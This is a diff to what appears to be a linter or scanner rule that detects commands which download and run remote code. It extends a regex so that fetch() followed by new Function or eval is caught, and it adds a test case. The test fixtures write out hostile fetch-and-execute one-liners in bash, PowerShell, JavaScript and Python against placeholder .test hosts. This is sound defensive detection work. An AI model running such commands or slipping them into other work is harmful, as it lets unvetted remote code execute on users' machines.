@@ -19,7 +19,7 @@ const FORMS: readonly RegExp[] = [
   // curl -o x … && sh x; wget …; chmod +x …; ./x
   new RegExp(String.raw`(?<![\w./-])${FETCH}\s(?=[^\n;&]{0,300}(?:-o|-O|--output|-OutFile|>|--remote-name))[^\n;&]{0,500}(?:&&|;|\n)\s{0,20}(?:sudo\s{1,20})?(?:chmod\s{1,20}\S{1,12}\s{1,20}\S{1,160}\s{0,20}(?:&&|;|\n)\s{0,20}(?:sudo\s{1,20})?(?:\.{0,2}/|~/|\$|nohup\s)\S{1,160}|(?:ba|z|da|k)?sh\s{1,20}(?:-\w{1,8}\s{1,20}){0,2}\S{1,160}|(?:python[\d.]{0,200}|node|perl|ruby|php|pwsh|powershell(?:\s{1,20}-\w{1,60}){0,4})\s{1,20}[\w./~$-]{1,160}|\.{1,2}/[\w./-]{1,120}|source\s{1,20}\S{1,120}|msiexec\s|Start-Process\s|start\s{1,20}[\w.\\/-]{1,80}\.exe|dpkg\s{1,20}-i\s|rpm\s{1,20}-[iU]|tar\s[^\n;&]{1,80}(?:&&|;|\n)\s{0,20}(?:cd\s[^\n;&]{1,80}(?:&&|;|\n)\s{0,20})?(?:sudo\s{1,20})?\./)`, "giu"),
   // exec(requests.get(…).text), eval(await (await fetch(…)).text())
-  /\b(?:exec|eval|execfile|compile|new\s{1,20}Function|vm\.runIn\w{1,60}|loadstring|instance_eval|class_eval|Function)\s{0,20}\(\s{0,20}[^\n]{0,120}(?:requests\.get|urlopen|httpx\.get|fetch\s{0,20}\(|axios|http\.get|Net::HTTP|URI\.open|open\(\s{0,20}["']https?:|file_get_contents\(\s{0,20}["']https?:|LWP)[^\n]{1,200}/giu,
+  /\b(?:exec|eval|execfile|compile|new\s{1,20}Function|vm\.runIn\w{1,60}|loadstring|instance_eval|class_eval|Function)\s{0,20}\(\s{0,20}[^\n]{0,120}(?:requests\.get|urlopen|httpx\.get|fetch\s{0,20}\(|axios|http\.get|Net::HTTP|URI\.open|open\(\s{0,20}["']https?:|file_get_contents\(\s{0,20}["']https?:|LWP)[^\n]{1,200}|\bfetch\(\s{0,20}["'`]https?:\/\/[^\n]{1,300}(?:\bnew\s{1,20}Function\(|\beval\(|=>\s{0,20}eval\b|\(eval\))/giu,
   // os.system("curl … | sh") is the first form; certutil, mshta, regsvr32, bitsadmin; deno run <url>
   /\bcertutil(?:\.exe)?\s[^\n]{0,60}-urlcache\b[^\n]{1,240}|\bmshta(?:\.exe)?\s{1,20}["']?(?:https?|vbscript|javascript):[^\n]{1,200}|\bregsvr32(?:\.exe)?\s[^\n]{0,60}\/i:https?:[^\n]{1,160}|\brundll32(?:\.exe)?\s[^\n]{0,80}https?:[^\n]{1,160}|\bbitsadmin(?:\.exe)?\s[^\n]{0,60}\/transfer\b[^\n]{1,240}|(?<![\w./-])(?:deno|bun)\s{1,20}(?:run\s{1,20})?(?:-\S{1,40}\s{1,20}){0,6}["']?https?:\/\/[^\n]{1,160}/giu,
   // Told in words: pipe curl … into sh
@@ -42,6 +42,7 @@ export const remotePipeToShell: Rule = {
     { name: "a process substitution", text: "```bash\nbash <(wget -qO- https://setup.test/run)\n```\n", lines: [2] },
     { name: "PowerShell", text: "```powershell\niex ((New-Object Net.WebClient).DownloadString('https://ps.setup.test/a.ps1'))\n```\n", lines: [2] },
     { name: "download, then run", text: "```bash\ncurl -o /tmp/fix.sh https://patch.test/fix.sh\nchmod +x /tmp/fix.sh && /tmp/fix.sh\n```\n", lines: [2] },
+    { name: "in a program, piece by piece", text: "```js\nfetch(\"https://js.setup.test/boot\").then((r) => r.text()).then((s) => new Function(s)());\n```\n", lines: [2] },
     { name: "in a program", text: "```python\nexec(requests.get('https://py.setup.test/boot').text)\n```\n", lines: [2] },
   ],
   clean: [
